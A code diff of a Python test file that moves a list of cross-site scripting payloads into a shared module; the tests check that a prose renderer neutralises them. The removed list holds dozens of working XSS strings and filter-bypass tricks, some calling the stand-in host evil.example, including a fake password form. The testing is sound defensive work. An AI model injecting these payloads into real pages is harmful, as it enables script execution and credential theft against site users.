@@ -6,82 +6,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from tests.hostile import MARKUP
 from upskill.catalogue import prose
 from upskill.catalogue.prose import Complaint
-
-# Markup that runs code, loads from elsewhere, or changes the page, in the ways that have got through filters before.
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script>alert(1)//",
-    "<img src=x onerror=alert(1)>",
-    "<img src=x onerror=alert(1)//",
-    '<img/src="x"/onerror="alert(1)">',
-    "<IMG SRC=`javascript:alert(1)`>",
-    '<img src="javascript:alert(1)">',
-    "<img src=https://evil.example/pixel.gif>",
-    "<img src=//evil.example/pixel.gif>",
-    "![pixel](https://evil.example/pixel.gif)",
-    "![run](javascript:alert(1))",
-    "![run](data:text/html;base64,PHNjcmlwdD4=)",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
-    "<math href=javascript:alert(1)>click</math>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data="javascript:alert(1)"></object>',
-    '<embed src="javascript:alert(1)">',
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)></audio>",
-    "<body onload=alert(1)>",
-    '<base href="https://evil.example/">',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<link rel="stylesheet" href="https://evil.example/x.css">',
-    "<style>body{display:none}</style>",
-    '<p style="position:fixed;inset:0">cover</p>',
-    '<div style="background:url(javascript:alert(1))">x</div>',
-    '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
-    '<button formaction="javascript:alert(1)">x</button>',
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href="JaVaScRiPt:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="java\tscript:alert(1)">x</a>',
-    '<a href=" javascript:alert(1)">x</a>',
-    '<a href="vbscript:msgbox(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    "[x](javascript:alert(1))",
-    "[x](JAVASCRIPT:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    '<a href="https://example.org" onclick="alert(1)" target="_top">x</a>',
-    '<p onmouseover="alert(1)">x</p>',
-    '<p id="location" name="cookie">clobber</p>',
-    '<section class="govuk-error-summary">fake</section>',
-    '<pre tabindex="5">x</pre>',
-    '<div tabindex="-1">x</div>',
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<title></title><script>alert(1)</script>",
-    "<template><script>alert(1)</script></template>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "```html\n<script>alert(1)</script>\n```",
-    "`<img src=x onerror=alert(1)>`",
-    "::: challenge <img src=x onerror=alert(1)>\nx\n:::",
-    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
-    "\x00<script>alert(1)</script>",
-    "<a\x00 href=javascript:alert(1)>x</a>",
-]  # fmt: skip
 
 _SAFE_TAGS = prose.TAGS - {"img"}
 _TAG = re.compile(r"<(/?)([a-zA-Z][a-zA-Z0-9]*)([^>]*)>")
@@ -110,7 +37,7 @@ def test_the_search_for_dangers_finds_them():
     assert dangers('<p>Fine <a href="https://example.org" rel="noopener noreferrer">link</a></p>') == []
 
 
-@pytest.mark.parametrize("hostile", HOSTILE)
+@pytest.mark.parametrize("hostile", MARKUP)
 @pytest.mark.parametrize("draw", [prose.to_html, prose.to_line, prose.clean])
 def test_hostile_markup_is_drawn_harmless(draw, hostile):
     html = draw(f"Before {hostile} after\n\n{hostile}\n\nEnd")
@@ -119,7 +46,7 @@ def test_hostile_markup_is_drawn_harmless(draw, hostile):
     assert "govuk-error-summary" not in html
 
 
-@given(st.lists(st.sampled_from([*HOSTILE, "\n", "\n\n", "> ", "- ", "`", "**", "::: challenge\n", ":::\n", "text"])))
+@given(st.lists(st.sampled_from([*MARKUP, "\n", "\n\n", "> ", "- ", "`", "**", "::: challenge\n", ":::\n", "text"])))
 def test_hostile_markup_in_any_mixture_is_drawn_harmless(parts):
     assert dangers(prose.to_html("".join(parts))) == []
 
